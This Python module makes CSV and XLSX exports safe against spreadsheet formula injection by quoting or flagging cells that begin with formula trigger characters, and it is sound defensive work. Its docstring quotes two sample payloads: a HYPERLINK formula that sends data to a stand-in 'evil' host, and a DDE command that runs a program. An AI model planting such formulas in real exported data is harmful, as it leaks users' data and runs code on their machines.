"""Spreadsheet-safe exports (导出防公式注入): CSV and XLSX that Excel and WPS open without running anything.

A cell whose text begins with ``=``, ``+``, ``-`` or ``@`` (also in full width, ``＝＋－＠``, and after
leading white space), or with a tab or carriage return, can be taken for a formula by a spreadsheet
(CSV injection, OWASP): ``=HYPERLINK("http://evil/?"&A1,"点击")`` in an imported address would send a
row to a stranger when clicked, ``=cmd|'/c calc'!A0`` ran programs through DDE. Every file the product
writes for people to open in a spreadsheet goes through this module:

* CSV (:func:`csv_text`, :func:`write_csv`): such a text cell gets a leading single quote ``'``, the
  OWASP defence (Excel shows the quote; it shows what was stored, and no formula runs).
* XLSX (:func:`xlsx_bytes`): every text cell is written as a string (``t="inlineStr"``), never as a
  formula (openpyxl would make any text starting with ``=`` a formula), and such a cell also carries
  Excel's own quote-prefix flag (``quotePrefix``), so that editing it keeps it text. The text itself is
  kept as it was.

Numbers stay numbers (a negative number in a numeric column is a number cell, not text), and so does a
plain negative number held as text (``-12.5``, e.g. a coordinate in a rejects file), which no
spreadsheet runs. defusedcsv
was considered: it covers ``=+-@|%`` at the first character only (no tab or CR, no white space before,
no full-width forms) and rewrites ``|`` inside the text, so the few lines here do the job instead.
"""

from __future__ import annotations

import datetime as dt
import io
import math
import os
import re
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd

#: Characters that make a spreadsheet read a cell as a formula when they come first (after white space):
#: ASCII, full-width (FF1D, FF0B, FF0D, FF20), small forms (FE66, FE62, FE63, FE6B) and the minus sign.
FORMULA_TRIGGERS = frozenset("=+-@＝＋－＠﹦﹢﹣﹫\u2212")
#: Characters that make a cell suspect when they come first, before any stripping (OWASP: tab, CR; LF).
LEADING_CONTROLS = frozenset("\t\r\n")
#: Stripped before looking for a trigger: white space and the invisible zero-width characters.
_INVISIBLE = "\u200b\u200c\u200d\u2060\ufeff"
#: A plain negative number written as text (``-12.5``): a spreadsheet reads a number, nothing runs.
_NEGATIVE_NUMBER = re.compile(r"-[0-9]+(?:\.[0-9]+)?")
#: Characters XML 1.0 cannot hold (XLSX refuses them): shown as U+FFFD instead of failing the export.
_XML_ILLEGAL = str.maketrans({c: "\ufffd" for c in (*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20))})


def is_dangerous(text: Any) -> bool:
    """True when ``text`` is a string a spreadsheet could take for a formula (see the module's notes)."""
    if not isinstance(text, str) or not text:
        return False
    if text[0] in LEADING_CONTROLS:
        return True
    rest = text.lstrip().lstrip(_INVISIBLE).lstrip()
    return bool(rest) and rest[0] in FORMULA_TRIGGERS and not _NEGATIVE_NUMBER.fullmatch(text)


def neutralise(value: Any) -> Any:
    """``value`` with a leading ``'`` when it is a dangerous string (CSV); anything else unchanged."""
    return "'" + value if is_dangerous(value) else value


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells and column names are :func:`neutralise`-d (numbers untouched)."""
    out = frame.copy()
    for name in out.columns:
        col = out[name]
        if pd.api.types.is_numeric_dtype(col.dtype) or pd.api.types.is_datetime64_any_dtype(col.dtype):
            continue
        if isinstance(col.dtype, pd.CategoricalDtype):
            col = col.astype(object)
        out[name] = col.map(neutralise, na_action="ignore")
    out.columns = [neutralise(str(c)) for c in out.columns]
    return out


def csv_text(frame: pd.DataFrame) -> str:
    """``frame`` as CSV text (no index, CRLF line ends), every dangerous text cell neutralised.

    With CRLF as the line terminator a field holding a bare carriage return is quoted too: unquoted, a
    ``\r`` inside an address would start a new row in Excel, whose first cell could be a formula.
    """
    return neutralise_frame(frame).to_csv(index=False, lineterminator="\r\n")


def write_csv(frame: pd.DataFrame, path: str | os.PathLike, *, encoding: str = "utf-8-sig") -> None:
    """Write ``frame`` to ``path`` as CSV (no index; UTF-8 with a BOM, so that Excel on a Chinese desktop
    does not read it as GBK), every dangerous text cell neutralised."""
    Path(path).write_bytes(csv_text(frame).encode(encoding))


def _sheet_title(name: str) -> str:
    # Excel: at most 31 characters, none of []:*?/\
    title = "".join("-" if ch in "[]:*?/\\" else ch for ch in str(name))[:31].strip("'")
    return title or "Sheet1"


def _plain(value: Any) -> Any:
    """A value openpyxl writes as a number, date or None; anything else as text (``str``)."""
    if value is None or value is pd.NaT or value is pd.NA:
        return None
    if isinstance(value, bool | np.bool_):
        return bool(value)
    if isinstance(value, int | np.integer):
        return int(value)
    if isinstance(value, float | np.floating):
        return None if math.isnan(value) else float(value)
    if isinstance(value, pd.Timestamp):
        return value.tz_localize(None).to_pydatetime() if value.tzinfo else value.to_pydatetime()
    if isinstance(value, dt.datetime):
        return value.replace(tzinfo=None)
    if isinstance(value, dt.date | dt.time):
        return value
    return str(value)


def xlsx_bytes(frame: pd.DataFrame, sheet_name: str = "Sheet1") -> bytes:
    """``frame`` as an XLSX workbook of one sheet: a header row, then one row per record.

    Every text cell is a string cell (``t="inlineStr"``, never a formula); a text cell a spreadsheet
    could take for a formula also gets the quote-prefix flag. Numbers, dates and booleans keep their
    types; missing values are empty cells.
    """
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell

    book = Workbook(write_only=True)
    sheet = book.create_sheet(title=_sheet_title(sheet_name))

    def cell(value: Any) -> Any:
        value = _plain(value)
        if not isinstance(value, str):
            return value
        out = WriteOnlyCell(sheet)
        out.value = value.translate(_XML_ILLEGAL)
        out.data_type = "s"  # after the value: openpyxl made a text starting with "=" a formula
        if is_dangerous(value):
            out.quotePrefix = True
        return out

    sheet.append([cell(str(name)) for name in frame.columns])
    for row in frame.itertuples(index=False, name=None):
        sheet.append([cell(v) for v in row])
    buf = io.BytesIO()
    book.save(buf)
    return buf.getvalue()
